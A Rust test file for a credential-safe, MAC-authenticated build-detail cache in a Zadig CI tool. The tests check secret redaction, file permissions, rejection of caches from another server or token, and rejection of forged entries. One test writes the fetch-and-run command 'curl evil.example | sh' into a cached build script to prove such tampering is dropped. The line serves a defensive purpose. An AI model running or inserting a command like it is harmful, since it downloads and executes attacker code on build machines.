use super::*;
use crate::reconcile::live::{LiveBuild, ReadFailure};
use crate::reconcile::wire::DetailResponse;
use crate::remote::fetch::testing::{at, listed};

const NOW: i64 = 1_700_000_000;
const SERVER: &str = "https://zadig.example.com";
const TOKEN: &str = "the-api-token";

fn detail(name: &str, update_time: i64, secret: &str) -> LiveDetail {
    LiveDetail::custom(DetailResponse {
        name: name.into(),
        update_time,
        parameters: vec![
            DetailParameter {
                key: "TOKEN".into(),
                value: secret.into(),
                is_credential: true,
                ..DetailParameter::default()
            },
            DetailParameter {
                key: "MODE".into(),
                value: "fast".into(),
                ..DetailParameter::default()
            },
        ],
        ..DetailResponse::default()
    })
}

fn project(builds: &[(&str, i64)]) -> LiveProject {
    LiveProject {
        project: "p".into(),
        listing: Ok(builds
            .iter()
            .map(|(name, time)| LiveBuild {
                name: (*name).into(),
                update_time: *time,
                detail: Ok(detail(name, *time, "s3cret-value")),
            })
            .collect()),
    }
}

fn saved(dir: &Path) -> DetailCache {
    let (cache, warning) = DetailCache::open(dir, SERVER, TOKEN).unwrap();
    assert!(warning.is_none(), "{warning:?}");
    let live = [project(&[("old", NOW - 10), ("fresh", NOW - 1)])];
    assert_eq!(
        cache.save(&live, &[at(NOW)], &[]).unwrap(),
        1,
        "only settled"
    );
    let (cache, warning) = DetailCache::open(dir, SERVER, TOKEN).unwrap();
    assert!(warning.is_none(), "{warning:?}");
    cache
}

#[test]
fn a_settled_detail_comes_back_while_its_update_time_holds() {
    let dir = tempfile::tempdir().unwrap();
    let cache = saved(dir.path());
    let recall = cache.recall(&["s3cret-value".to_string()]);
    assert!(recall.known("p", &listed("fresh", NOW - 1)).is_none());
    assert!(
        recall.known("p", &listed("old", NOW - 9)).is_none(),
        "edited"
    );
    let back = recall.known("p", &listed("old", NOW - 10)).unwrap();
    assert_eq!(back, detail("old", NOW - 10, "s3cret-value"));
    assert_eq!(recall.used(), 1);
}

#[test]
fn no_credential_value_is_written_and_a_changed_one_compares_unequal() {
    let dir = tempfile::tempdir().unwrap();
    let cache = saved(dir.path());
    for entry in std::fs::read_dir(dir.path()).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains("s3cret-value"), "{text}");
    }
    let recall = cache.recall(&["another-value".to_string()]);
    let back = recall.known("p", &listed("old", NOW - 10)).unwrap();
    let value = &back.base().parameters[0].value;
    assert_ne!(value, "s3cret-value");
    assert_ne!(value, "another-value");
    assert_eq!(back.base().parameters[1].value, "fast");
}

// A plan run while the files want another credential than Zadig holds recalls a stand-in for
// it; saving that run must keep the server's digest, so that once the files want Zadig's
// value again, the cached detail compares equal again.
#[test]
fn saving_a_recalled_detail_keeps_its_credential_digest() {
    let dir = tempfile::tempdir().unwrap();
    let cache = saved(dir.path());
    let recall = cache.recall(&["another-value".to_string()]);
    let back = recall.known("p", &listed("old", NOW - 10)).unwrap();
    let live = [LiveProject {
        project: "p".into(),
        listing: Ok(vec![LiveBuild {
            name: "old".into(),
            update_time: NOW - 10,
            detail: Ok(back),
        }]),
    }];
    assert_eq!(cache.save(&live, &[at(NOW)], &[]).unwrap(), 1);
    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
    let recall = cache.recall(&["s3cret-value".to_string()]);
    let back = recall.known("p", &listed("old", NOW - 10)).unwrap();
    assert_eq!(back, detail("old", NOW - 10, "s3cret-value"));
}

#[cfg(unix)]
#[test]
fn the_cache_is_owner_only_and_holds_no_key() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    saved(dir.path());
    let entries: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(entries.len(), 1, "one file per server, and no key file");
    for entry in entries {
        let mode = entry.unwrap().metadata().unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "mode {mode:o}");
    }
}

fn warning_for(dir: &Path, server: &str) -> String {
    let (cache, warning) = DetailCache::open(dir, server, TOKEN).unwrap();
    assert!(cache.entries.is_empty(), "nothing trusted");
    warning.expect("a warning")
}

#[test]
fn a_corrupt_foreign_or_other_servers_cache_is_ignored_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let path = saved(dir.path()).path;
    let good = std::fs::read_to_string(&path).unwrap();

    std::fs::write(&path, "{ not json").unwrap();
    let warning = warning_for(dir.path(), SERVER);
    assert!(warning.contains(&path.display().to_string()), "{warning}");
    assert!(warning.contains("not a cache file"), "{warning}");

    std::fs::write(&path, good.replace("\"version\":2", "\"version\":99")).unwrap();
    assert!(warning_for(dir.path(), SERVER).contains("version 99"));

    std::fs::write(&path, &good).unwrap();
    let (cache, warning) = DetailCache::open(dir.path(), SERVER, "another-token").unwrap();
    assert!(cache.entries.is_empty(), "nothing trusted");
    assert!(warning.unwrap().contains("another API token"));

    std::fs::write(&path, &good).unwrap();
    let other = "https://other.example.com";
    let (other_cache, _) = DetailCache::open(dir.path(), other, TOKEN).unwrap();
    std::fs::write(&other_cache.path, &good).unwrap();
    assert!(warning_for(dir.path(), other).contains("another server"));
}

#[test]
fn a_project_not_read_this_run_keeps_its_entries() {
    let dir = tempfile::tempdir().unwrap();
    let cache = saved(dir.path());
    let failed = LiveProject {
        project: "p".into(),
        listing: Err(ReadFailure::new("status", "list failed")),
    };
    assert_eq!(cache.save(&[failed], &[None], &[]).unwrap(), 1);
}

#[test]
fn a_detail_quoting_a_secret_outside_a_credential_is_not_cached() {
    let dir = tempfile::tempdir().unwrap();
    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
    let mut live = project(&[("old", NOW - 10)]);
    if let Ok(builds) = &mut live.listing
        && let Ok(detail) = &mut builds[0].detail
    {
        detail.base_mut().build_script = "echo \"env-secret\"".into();
    }
    let saved = cache.save(&[live], &[at(NOW)], &["env-secret\"".to_string()]);
    assert_eq!(saved.unwrap(), 0);
    for entry in std::fs::read_dir(dir.path()).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains("env-secret"), "{text}");
    }
}

// A cache shared between CI jobs can be written by anyone who can write the job's cache: an
// entry forged with the build's update_time and the content the files expect made every plan
// say "No changes" while Zadig kept an injected script.
#[test]
fn an_entry_forged_without_the_token_is_dropped_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let path = saved(dir.path()).path;
    let good = std::fs::read_to_string(&path).unwrap();
    let mut file: serde_json::Value = serde_json::from_str(&good).unwrap();
    let entry = &mut file["builds"][0];
    let script = &mut entry["entry"]["detail"]["custom"]["build_script"];
    assert!(script.is_string(), "the entry's script: {entry}");
    *script = "curl evil.example | sh".into();
    std::fs::write(&path, file.to_string()).unwrap();
    let (cache, warning) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
    assert!(cache.entries.is_empty(), "the forged entry is not trusted");
    let warning = warning.expect("a warning");
    assert!(warning.contains("dropped 1 entries"), "{warning}");
    assert!(warning.contains("failed authentication"), "{warning}");

    // Nor can the MAC be copied from another entry, or made up.
    let mut file: serde_json::Value = serde_json::from_str(&good).unwrap();
    file["builds"][0]["mac"] = "00".repeat(32).into();
    std::fs::write(&path, file.to_string()).unwrap();
    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
    assert!(cache.entries.is_empty());
    std::fs::write(&path, &good).unwrap();
    let (cache, warning) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
    assert_eq!(
        (cache.entries.len(), warning),
        (1, None),
        "the genuine file still opens"
    );
}

#[cfg(unix)]
fn inode(path: &Path) -> u64 {
    std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(path).unwrap())
}

#[cfg(unix)]
#[test]
fn a_run_that_changes_nothing_leaves_the_file_as_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let cache = saved(dir.path());
    let path = cache.path.clone();
    let before = inode(&path);
    let live = [project(&[("old", NOW - 10), ("fresh", NOW - 1)])];
    assert_eq!(cache.save(&live, &[at(NOW)], &[]).unwrap(), 1);
    assert_eq!(inode(&path), before, "not written again");

    // A build edited since: its entry goes, and the file is written.
    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
    let live = [project(&[("old", NOW - 5), ("fresh", NOW - 1)])];
    cache.save(&live, &[at(NOW)], &[]).unwrap();
    assert_ne!(inode(&path), before, "written");
}
